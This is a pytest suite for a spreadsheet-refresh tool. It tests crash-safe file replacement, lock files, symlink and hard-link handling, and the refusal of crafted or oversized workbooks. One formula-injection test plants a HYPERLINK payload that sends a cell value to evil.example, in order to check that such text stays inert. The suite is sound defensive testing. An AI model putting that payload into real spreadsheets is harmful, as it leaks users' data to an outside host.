"""The headless refresh loses nothing and carries nothing: it writes only inside its owned
areas, replaces the file crash-safely, keeps links, modes and backups, marks the checks
stale, and refuses crafted or oversized workbooks with one line (exit code 2).

Every workbook is built inside the test and then edited the way a user, another program
or an attacker would.
"""

from __future__ import annotations

import os
import re
import stat
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from defusedxml.ElementTree import fromstring
from python_calamine import CalamineWorkbook

from alfa_xl.book import replace as replace_mod
from alfa_xl.book import xlsx
from alfa_xl.book.refresh import refresh_workbook
from alfa_xl.errors import AlfaInputError
from test_book_refresh import (  # noqa: F401 - fixtures
    CHECKS_PART,
    INPUTS_PART,
    SCENARIOS_PART,
    book,
    out_ref,
    parts,
    pristine,
    refresh_cli,
    rewrite,
    set_cell,
)

M = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def set_name(path: Path, name: str, ref: str, extra: str = "") -> None:
    xml = parts(path)["xl/workbook.xml"].decode()
    xml, n = re.subn(
        rf'<definedName name="{name}"[^>]*>[^<]*</definedName>',
        f'<definedName name="{name}"{extra}>{ref}</definedName>',
        xml,
    )
    assert n == 1
    rewrite(path, {"xl/workbook.xml": xml.encode()})


def one_line_refusal(path: Path, capsys, *fragments: str) -> str:
    before = path.read_bytes()
    rc, err = refresh_cli(path, capsys)
    assert rc == 2, err
    assert err.count("\n") == 1 and "Traceback" not in err, err
    for f in fragments:
        assert f in err, err
    assert path.read_bytes() == before
    return err


def debris(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


# -- owned areas ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    "name, ref, fragment",
    [
        ("out_scenarios", "Inputs!$A$1:$B$3", "defined name out_scenarios: on sheet Inputs, not on Scenarios"),
        ("out_status", "Inputs!$B$5", "defined name out_status: on sheet Inputs, not on Scenarios"),
        ("out_risk", "Scenarios!$A$6", "defined name out_risk: on sheet Scenarios, not on Risk"),
        ("out_risk", "Checks!$A$1", "defined name out_risk: on sheet Checks, not on Risk"),
        ("out_status", "Scenarios!$C$10", "overlaps out_status"),  # inside out_scenarios
        ("out_scenarios", "Scenarios!$A$4", "overlaps out_status"),  # grows over the status cell
    ],
)
def test_owned_names_pointing_elsewhere_are_refused(book, capsys, name, ref, fragment):
    set_name(book, name, ref)
    err = one_line_refusal(book, capsys, fragment)
    assert "Name Manager" in err or "rebuild" in err


def test_notes_below_a_growing_area_are_kept(book, capsys):
    """A note at Scenarios!A100, then a longer horizon: the area would grow over it."""
    xml = parts(book)[SCENARIOS_PART].decode()
    note = '<row r="100"><c r="A100" t="inlineStr"><is><t>my notes</t></is></c></row>'
    rewrite(book, {SCENARIOS_PART: xml.replace("</sheetData>", note + "</sheetData>").encode()})
    assert refresh_cli(book, capsys)[0] == 0  # same horizon: the area does not reach row 100
    set_cell(book, "B7", 2035)  # in_end_year
    one_line_refusal(
        book, capsys, "defined name out_scenarios", "1 non-empty cell it did not write: Scenarios!A100", "move or clear"
    )
    rows = CalamineWorkbook.from_path(str(book)).get_sheet_by_name("Scenarios").to_python()
    assert rows[99][0] == "my notes"


def test_a_shrinking_then_growing_area_reclaims_only_its_own_cells(book, capsys):
    set_cell(book, "B7", 2028)
    assert refresh_cli(book, capsys)[0] == 0
    small = out_ref(book)
    set_cell(book, "B7", 2030)
    assert refresh_cli(book, capsys)[0] == 0  # the cells it left are empty: it may grow back
    assert out_ref(book) != small


def test_a_comment_with_markup_on_a_defined_name_stays_well_formed(book, capsys):
    set_name(book, "out_scenarios", "Scenarios!$A$6:$K$92", ' comment="a&gt;b &lt;c&gt; &amp; d"')
    set_cell(book, "B7", 2031)  # the rectangle changes size: the name is rewritten
    assert refresh_cli(book, capsys)[0] == 0
    root = fromstring(parts(book)["xl/workbook.xml"])  # well-formed
    d = next(x for x in root.iter(M + "definedName") if x.get("name") == "out_scenarios")
    assert d.get("comment") == "a>b <c> & d" and d.text.startswith("Scenarios!$A$6:")


def test_prefixes_and_ignorable_namespaces_survive(book, capsys):
    """A sheet saved by Excel declares prefixes it names in mc:Ignorable; they must stay."""
    xml = parts(book)[SCENARIOS_PART].decode()
    head = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
        'xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac" mc:Ignorable="x14ac"'
    )
    xml = re.sub(r"<worksheet [^>]*?(?=>)", head, xml, count=1)
    rewrite(book, {SCENARIOS_PART: xml.encode()})
    assert refresh_cli(book, capsys)[0] == 0
    out = parts(book)[SCENARIOS_PART].decode()
    assert (
        'xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac"' in out
        and 'mc:Ignorable="x14ac"' in out
    )
    fromstring(out.encode())


# -- stale checks and recalculation ------------------------------------------------------------
def test_checks_get_their_computed_values_and_recalculation_is_flagged(book, capsys):
    """The refresh computes the Checks' cached values (LibreOffice's hard recalculation agrees:
    tests/test_book_libreoffice.py); Excel still recalculates on open."""
    xml = parts(book)["xl/workbook.xml"].decode()
    rewrite(book, {"xl/workbook.xml": re.sub(r"<calcPr[^>]*/>", "", xml).encode()})  # as some programs save it
    set_cell(book, "B5", 300000)
    assert refresh_cli(book, capsys)[0] == 0
    calc = fromstring(parts(book)["xl/workbook.xml"]).find(M + "calcPr")
    assert calc is not None and calc.get("fullCalcOnLoad") == "1"
    wb = CalamineWorkbook.from_path(str(book))
    checks = wb.get_sheet_by_name("Checks").to_python()
    assert checks[3][1:3] == ["Master check", "OK"]
    compare = wb.get_sheet_by_name("Scenarios").to_python()[7:12]  # name, total, target, gap, ...
    for row, check in zip(compare, checks[11:16]):
        assert check[1] == row[0] and check[8] == "OK"
        assert check[9] == pytest.approx(300000 - row[1], rel=1e-12)  # the native gap: in_target - the written total
    assert "STALE" not in {v for row in checks for v in row}
    cover = wb.get_sheet_by_name("Cover").to_python()
    row = next(r for r in cover if "All checks (sheet Checks)" in r)
    assert row[row.index("All checks (sheet Checks)") + 1] == "OK"
    status = next(r for r in cover if "Last refresh (out_status)" in r)
    assert "target 300,000" in status[status.index("Last refresh (out_status)") + 1]


def test_a_check_the_build_does_not_write_says_stale(book, capsys):
    """A formula typed on the Checks sheet cannot be computed headless: its cached value is
    STALE (Excel recalculates it on open); one typed elsewhere keeps its value."""
    xml = parts(book)[CHECKS_PART].decode()
    xml = xml.replace(
        "</sheetData>", '<row r="70"><c r="B70" t="str"><f>in_target*2</f><v>800000</v></c></row></sheetData>'
    )
    rewrite(book, {CHECKS_PART: xml.encode()})
    set_cell(book, "B5", 300000)
    assert refresh_cli(book, capsys)[0] == 0
    checks = CalamineWorkbook.from_path(str(book)).get_sheet_by_name("Checks").to_python()
    assert checks[69][1] == "STALE" and checks[3][2] == "OK"


# -- crash safety ----------------------------------------------------------------------------
STEPS = [
    "temp created",
    "workbook written",
    "workbook verified",
    "backup written",
    "backup renamed",
    "locks checked",
    "workbook renamed",
]

CRASH = textwrap.dedent("""
    import os, sys, zipfile
    sys.path.insert(0, {tests!r})
    from alfa_xl.book import replace
    from alfa_xl.book.refresh import refresh_workbook
    where, n = sys.argv[1], int(sys.argv[2])
    if where == "writestr":  # die in the middle of writing the new zip (before the n+1-th entry, copied or rewritten)
        original = zipfile.ZipInfo.FileHeader
        calls = []
        def dying(self, *a, **k):
            calls.append(1)
            if len(calls) > n:
                os._exit(9)
            return original(self, *a, **k)
        zipfile.ZipInfo.FileHeader = dying
    else:
        def checkpoint(step):
            if step == where:
                os._exit(9)
        replace.checkpoint = checkpoint
    refresh_workbook(sys.argv[3])
""")


def _valid_workbook(data: bytes) -> bool:
    import io

    try:
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            return z.testzip() is None and "xl/workbook.xml" in z.namelist()
    except zipfile.BadZipFile:
        return False


CRASH_POINTS = [(s, 0) for s in STEPS] + [("writestr", 1), ("writestr", 20)]


@pytest.mark.parametrize("where, n", CRASH_POINTS, ids=[f"{w}-{n}" if w == "writestr" else w for w, n in CRASH_POINTS])
def test_a_crash_at_any_write_step_loses_nothing(book, capsys, where, n):
    folder = book.parent
    refresh_workbook(book)  # a previous good backup exists
    set_cell(book, "B5", 320000)
    refresh_workbook(book)  # backup = the 400,000 refresh, workbook = 320,000
    w0, b0 = book.read_bytes(), (folder / (book.name + ".bak")).read_bytes()
    set_cell(book, "B5", 330000)
    w1 = book.read_bytes()
    script = CRASH.format(tests=str(Path(__file__).parent))
    proc = subprocess.run(
        [sys.executable, "-c", script, where, str(n), str(book)], capture_output=True, text=True, timeout=120
    )
    assert proc.returncode == 9, proc.stderr
    after, bak = book.read_bytes(), (folder / (book.name + ".bak")).read_bytes()
    assert after == w1 or (_valid_workbook(after) and where == "workbook renamed")
    assert bak in (b0, w1), "the previous backup or a complete copy of the workbook"
    assert bak != w0 or b0 == w0
    # the lock file of the killed refresh may stay (its lock died with the process)
    assert sorted(p.name for p in folder.iterdir() if not p.name.endswith((".tmp", ".refresh-lock"))) == sorted(
        [book.name, book.name + ".bak"]
    )
    # the next refresh cleans what the crash left, and leaves nothing of its own
    left = debris(folder)
    report = refresh_workbook(book)
    assert sorted(report.cleaned) == left
    assert debris(folder) == [] and not (folder / f".{book.name}.refresh-lock").exists()
    assert _valid_workbook(book.read_bytes())


def test_no_temporary_files_after_a_refused_refresh(book, capsys):
    set_cell(book, "B5", -1)
    one_line_refusal(book, capsys, "in_target")
    assert debris(book.parent) == []


@pytest.mark.parametrize("step", ["backup written", "backup renamed"])
def test_a_lock_file_appearing_during_the_refresh_stops_it(book, monkeypatch, step):
    refresh_workbook(book)
    set_cell(book, "B5", 360000)
    before, bak = book.read_bytes(), (book.parent / (book.name + ".bak")).read_bytes()

    def lock_appears(at):
        if at == step:
            (book.parent / f".~lock.{book.name}#").write_text("someone,host")

    monkeypatch.setattr(replace_mod, "checkpoint", lock_appears)
    with pytest.raises(AlfaInputError, match="open in LibreOffice"):
        refresh_workbook(book)
    assert book.read_bytes() == before and debris(book.parent) == []
    after_bak = (book.parent / (book.name + ".bak")).read_bytes()
    assert after_bak == (bak if step == "backup written" else before)  # the previous backup, or a copy of the workbook


def test_a_save_during_the_refresh_is_not_overwritten(book, monkeypatch):
    def saved(step):
        if step == "backup renamed":
            data = book.read_bytes()
            book.write_bytes(data + b"")
            os.utime(book, ns=(1, 1))

    monkeypatch.setattr(replace_mod, "checkpoint", saved)
    with pytest.raises(AlfaInputError, match="changed while it was being refreshed"):
        refresh_workbook(book)
    assert debris(book.parent) == []


@pytest.mark.parametrize("lock", ["~$alfa_outlook.xlsm", ".~lock.alfa_outlook.xlsm#"])
def test_both_lock_files_are_honoured(book, capsys, lock):
    (book.parent / lock).write_text("x")
    one_line_refusal(book, capsys, "close it in", lock)


def test_a_backup_symlink_is_replaced_not_followed(book):
    victim = book.parent / "victim.txt"
    victim.write_text("precious")
    (book.parent / (book.name + ".bak")).symlink_to(victim)
    before = book.read_bytes()
    refresh_workbook(book)
    assert victim.read_text() == "precious"
    bak = book.parent / (book.name + ".bak")
    assert not bak.is_symlink() and bak.read_bytes() == before


def test_a_backup_folder_is_refused(book, capsys):
    (book.parent / (book.name + ".bak")).mkdir()
    one_line_refusal(book, capsys, "alfa_outlook.xlsm.bak is a folder", "--no-backup")


def test_a_symlinked_workbook_is_refreshed_in_place_of_its_target(book, tmp_path):
    link = tmp_path / "link" / "book.xlsm"
    link.parent.mkdir()
    link.symlink_to(book)
    set_cell(book, "B5", 310000)
    refresh_workbook(link)
    assert link.is_symlink() and os.path.realpath(link) == str(book)
    assert "target 310,000" in CalamineWorkbook.from_path(str(book)).get_sheet_by_name("Scenarios").to_python()[4][1]
    assert (book.parent / (book.name + ".bak")).is_file() and not (link.parent / "book.xlsm.bak").exists()


def test_hard_links_are_refused(book, capsys, tmp_path):
    os.link(book, tmp_path / "other.xlsm")
    one_line_refusal(book, capsys, "has 2 hard links")


def test_read_only_workbook_is_refused(book, capsys):
    book.chmod(0o444)
    try:
        one_line_refusal(book, capsys, "read-only")
    finally:
        book.chmod(0o644)


def test_file_mode_is_kept(book):
    book.chmod(0o640)
    refresh_workbook(book)
    assert stat.S_IMODE(book.stat().st_mode) == 0o640
    assert stat.S_IMODE((book.parent / (book.name + ".bak")).stat().st_mode) == 0o640


@pytest.mark.parametrize("through_link", [False, True])
def test_read_only_folder_is_refused_even_for_root(book, capsys, tmp_path, through_link):
    """Mode 0555 says the folder is not to be written: refused for every user, root included."""
    given = book
    if through_link:
        links = tmp_path / "links"
        links.mkdir()
        given = links / book.name
        given.symlink_to(book)
    book.parent.chmod(0o555)
    try:
        one_line_refusal(given, capsys, "folder that cannot be written")
        assert sorted(p.name for p in book.parent.iterdir()) == [book.name] + (["links"] if through_link else [])
    finally:
        book.parent.chmod(0o755)


def test_stale_debris_of_an_earlier_crash_is_removed_and_reported(book):
    stale = book.parent / f".{book.name}.refresh-abc123.tmp"
    stale.write_bytes(b"half a zip")
    other = book.parent / ".unrelated.tmp"
    other.write_text("not ours")
    report = refresh_workbook(book)
    assert report.cleaned == [stale.name] and not stale.exists() and other.exists()


# -- formula injection --------------------------------------------------------------------------
def test_text_that_looks_like_a_formula_is_written_as_inline_text(book, capsys):
    xml = parts(book)[INPUTS_PART].decode()
    evil = '=HYPERLINK("http://evil.example/?x="&amp;A1,"click")'
    xml, n = re.subn(
        r'(<c r="A35"[^>]*?)(?: t="s")?>(?:<v>\d+</v>)</c>',
        lambda m: f'{m.group(1)} t="inlineStr"><is><t>{evil}</t></is></c>',
        xml,
        count=1,
    )
    assert n == 1
    rewrite(book, {INPUTS_PART: xml.encode()})
    assert refresh_cli(book, capsys)[0] == 0
    out = parts(book)[SCENARIOS_PART].decode()
    assert "<f>" not in out and '<t xml:space="preserve">=HYPERLINK(' in out


# -- crafted and oversized workbooks --------------------------------------------------------
def _edit(path: Path, part: str, old: str, new: str) -> None:
    xml = parts(path)[part].decode()
    assert old in xml, old
    rewrite(path, {part: xml.replace(old, new, 1).encode()})


def test_utf16_parts_are_read(book, capsys):
    """XML may declare any encoding; a UTF-16 Inputs sheet is read like a UTF-8 one."""
    set_cell(book, "B5", 345000)
    xml = parts(book)[INPUTS_PART].decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    rewrite(book, {INPUTS_PART: xml.encode("utf-16")})
    assert refresh_cli(book, capsys)[0] == 0
    status = CalamineWorkbook.from_path(str(book)).get_sheet_by_name("Scenarios").to_python()[4][1]
    assert "target 345,000" in status


@pytest.mark.parametrize(
    "case",
    [
        "missing sheet part",
        "bogus table reference",
        "ZZZZ5",
        "B99999999",
        "numFmtId",
        "headerRowCount",
        "shared-string index",
        "cell reference in sheetData",
        "table columns",
    ],
)
def test_crafted_workbooks_give_one_line(book, capsys, case):
    p = parts(book)
    if case == "missing sheet part":
        old = dict(p)
        del old[INPUTS_PART]
        with zipfile.ZipFile(book, "w") as z:
            for n, d in old.items():
                z.writestr(n, d)
        one_line_refusal(book, capsys, "the part xl/worksheets/sheet2.xml of sheet 'Inputs' is missing")
    elif case == "bogus table reference":
        _edit(book, "xl/tables/table1.xml", 'ref="A34:T43"', 'ref="A34:nonsense"')
        one_line_refusal(book, capsys, "table tbl_lineup: bad reference")
    elif case == "ZZZZ5":
        set_name(book, "in_target", "Inputs!$ZZZZ$5")
        one_line_refusal(book, capsys, "defined name in_target: not a cell range")
    elif case == "B99999999":
        set_name(book, "in_target", "Inputs!$B$99999999")
        one_line_refusal(book, capsys, "defined name in_target: not a cell range")
    elif case == "numFmtId":
        xml = p["xl/styles.xml"].decode()
        rewrite(book, {"xl/styles.xml": re.sub(r'numFmtId="(\d+)"', 'numFmtId="1.5"', xml, count=3).encode()})
        one_line_refusal(book, capsys, "numFmtId='1.5' is not a whole number")
    elif case == "headerRowCount":
        _edit(book, "xl/tables/table1.xml", 'ref="A34:T43"', 'ref="A34:T43" headerRowCount="one"')
        one_line_refusal(book, capsys, "headerRowCount='one' is not a whole number")
    elif case == "shared-string index":
        xml = p[INPUTS_PART].decode()
        rewrite(book, {INPUTS_PART: re.sub(r'(<c r="A35"[^>]*t="s"[^>]*><v>)\d+', r"\g<1>x1", xml, count=1).encode()})
        one_line_refusal(book, capsys, "shared-string index 'x1' is not a whole number")
    elif case == "cell reference in sheetData":
        _edit(book, INPUTS_PART, '<c r="B5"', '<c r="ZZZZ5"')
        one_line_refusal(book, capsys, "bad cell reference 'ZZZZ5'")
    else:
        _edit(book, "xl/tables/table1.xml", 'ref="A34:T43"', 'ref="A34:C43"')
        one_line_refusal(book, capsys, "table tbl_lineup: its columns do not match")


def test_a_part_too_large_to_parse_is_refused_before_parsing(book, capsys, monkeypatch):
    monkeypatch.setattr(xlsx, "MAX_XML_PART", len(parts(book)[INPUTS_PART]) - 1)
    one_line_refusal(book, capsys, "part xl/worksheets/sheet2.xml is too large to read")


def test_too_many_parsed_bytes_are_refused(book, capsys, monkeypatch):
    monkeypatch.setattr(xlsx, "MAX_PARSED", 20_000)
    one_line_refusal(book, capsys, "the parts to read total over 20,000 bytes")


def test_many_large_parts_are_refused_before_reading(book, capsys, monkeypatch):
    monkeypatch.setattr(xlsx, "MAX_UNPACKED", 2_000_000)
    extra = {f"xl/media/blob{i}.bin": os.urandom(1024 * 1024) for i in range(3)}  # 3 x 1 MiB, incompressible
    rewrite(book, extra)
    one_line_refusal(book, capsys, "unpacks to", "limit 2,000,000")


def test_a_real_inputs_sheet_over_the_part_limit_is_refused_quickly(book, capsys):
    """An Inputs sheet of 17 MB (stored, so no zip-bomb ratio): refused before it is parsed."""
    xml = parts(book)[INPUTS_PART].decode()
    filler = "".join(
        f'<row r="{r}"><c r="Z{r}"><v>{r}</v></c></row>' for r in range(1000, 1000 + 17 * 1024 * 1024 // 40)
    )
    big = xml.replace("</sheetData>", filler + "</sheetData>")
    assert len(big) > xlsx.MAX_XML_PART
    p = parts(book)
    p[INPUTS_PART] = big.encode()
    with zipfile.ZipFile(book, "w", zipfile.ZIP_STORED) as z:
        for n, d in p.items():
            z.writestr(n, d)
    one_line_refusal(book, capsys, "is too large to read")
